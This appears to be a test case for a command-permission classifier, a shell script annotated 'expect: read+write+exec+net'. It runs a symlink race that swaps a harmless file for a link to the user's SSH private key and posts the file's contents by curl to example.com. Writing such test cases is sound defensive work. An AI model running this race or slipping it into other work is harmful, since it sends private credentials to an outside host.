# expect: read+write+exec+net
# why: cat < f, f swapped for a link to the key; the content is sent by curl
printf 'hi\n' > f
python3 -c 'import ctypes, os, sys, time
os.symlink(os.path.expanduser("~/.ss") + sys.argv[1], sys.argv[2] + ".ln")
end = time.time() + 2
while time.time() < end:
    ctypes.CDLL(None).renameat2(-100, sys.argv[2].encode(), -100, (sys.argv[2] + ".ln").encode(), 2)' h/id_ed25519 f &
for i in $(seq 300); do cat < f | curl -s --data-binary @- http://example.com/; done
